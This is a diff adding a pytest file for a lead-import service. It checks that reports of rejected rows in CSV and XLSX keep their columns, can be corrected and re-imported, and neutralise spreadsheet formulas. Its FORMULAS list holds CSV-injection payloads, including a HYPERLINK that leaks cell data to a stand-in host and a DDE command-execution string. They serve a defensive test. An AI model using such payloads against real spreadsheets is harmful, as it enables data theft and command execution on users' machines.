@@ -1,0 +1,114 @@
+"""Rows that did not become leads, as a file that can be corrected and imported again."""
+
+import csv
+import io
+from typing import Any
+
+import openpyxl
+import pytest
+
+from tests.support.readers import Stored
+from tests.support.user import COLUMNS, XLSX_TYPE, User, csv_file, lead_rows, new_phones, totals, xlsx_file
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"ver")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "=cmd|' /C calc'!A0",
+]
+
+
+async def download(user: User, import_id: int, kind: str, **query: Any) -> bytes:
+    answer = await user.get(f"/imports/{import_id}/rows", format=kind, **query)
+    assert answer.status_code == 200, answer.text
+    expected = "text/csv" if kind == "csv" else XLSX_TYPE
+    assert answer.headers["content-type"].split(";")[0] == expected
+    disposition = answer.headers["content-disposition"]
+    assert disposition.startswith("attachment")
+    assert f".{kind}" in disposition
+    return answer.content
+
+
+def read(content: bytes, kind: str) -> list[list[str]]:
+    """Read a report as a spreadsheet program would; no cell is a formula."""
+    if kind == "csv":
+        text = content.decode("utf-8-sig")
+        first = text.splitlines()[0]
+        return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if ";" in first else ","))
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    sheet = book.worksheets[0]
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
+    return [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]
+
+
+def write(rows: list[list[str]], kind: str) -> bytes:
+    return csv_file(rows) if kind == "csv" else xlsx_file(rows)
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+async def test_a_report_has_the_files_own_columns(user: User, kind: str) -> None:
+    (phone,) = new_phones(1)
+    bad = [
+        ["José Antônio", "ligar depois", "529.982.247-25", "jose@clinica.com.br", "VIP, Zona Sul"],
+        ['Duas\nlinhas; e vírgula, e "aspas" 🌸', "x", "", "", ""],
+    ]
+    found = await user.run(csv_file([*lead_rows([phone]), *bad, *lead_rows([phone])]), on_invalid_row="skip")
+    header, *rows = read(await download(user, found["id"], kind), kind)
+    assert header == list(COLUMNS)
+    assert rows == [*bad, *lead_rows([phone])]
+    assert read(await download(user, found["id"], kind, outcome="error"), kind)[1:] == bad
+    assert read(await download(user, found["id"], kind, outcome="existing"), kind)[1:] == lead_rows([phone])
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+async def test_a_report_can_be_corrected_and_imported_again(user: User, stored: Stored, kind: str) -> None:
+    first, second, third = new_phones(3)
+    rows = [
+        ["Com mais", f"+55 {first}", "111.111.111-11", "", "-10% de desconto"],
+        ["+Saúde", f"({second[:2]}) {second[2:]}", "111.111.111-11", "", ""],
+        ["=Igual", f"{third}", "01234567890", "sem arroba", ""],
+    ]
+    found = await user.run(csv_file(rows), on_invalid_row="skip")
+    assert totals(found) == (0, 0, 3)
+    header, *reported = read(await download(user, found["id"], kind), kind)
+    for cells in reported:
+        cells[2] = cells[2].replace("111.111.111-11", "529.982.247-25")
+        cells[3] = ""
+    again = await user.upload(write([header, *reported][1:], kind), file_name=f"leads.{kind}")
+    assert again.status_code == 202, again.text
+    assert totals(await user.ended(again.json()["id"])) == (3, 0, 0)
+    leads = {lead["contact_cellphone"]: lead for lead in await stored.leads(user.tenant.company_id)}
+    assert set(leads) == {first, second, third}
+    assert [leads[phone]["name"] for phone in (first, second, third)] == ["Com mais", "+Saúde", "=Igual"]
+    assert leads[first]["tags"] == ["-10% de desconto"]
+    assert leads[third]["cpf"] == "01234567890"
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+async def test_formulas_are_neutralised(user: User, kind: str) -> None:
+    rows = [[formula, formula, formula, formula, formula] for formula in FORMULAS]
+    found = await user.run(csv_file(rows), on_invalid_row="skip")
+    assert totals(found) == (0, 0, len(rows))
+    _, *reported = read(await download(user, found["id"], kind), kind)
+    assert len(reported) == len(rows)
+    for cells, formula in zip(reported, FORMULAS, strict=True):
+        for cell in cells:
+            assert formula.strip() in cell
+            if kind == "csv":  # in a workbook a text cell is text; its type was checked
+                assert cell[0] not in "=+-@\t\r\n"
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+async def test_a_report_without_rows_is_a_header(user: User, kind: str) -> None:
+    found = await user.run(csv_file(lead_rows(new_phones(1))))
+    assert read(await download(user, found["id"], kind), kind) == [list(COLUMNS)]
+
+
+async def test_a_report_holds_all_rows_not_a_page(user: User) -> None:
+    (phone,) = new_phones(1)
+    found = await user.run(csv_file(lead_rows([phone] * 1_300)))
+    assert totals(found) == (1, 1_299, 0)
+    for kind in ("csv", "xlsx"):
+        assert len(read(await download(user, found["id"], kind), kind)) == 1_300
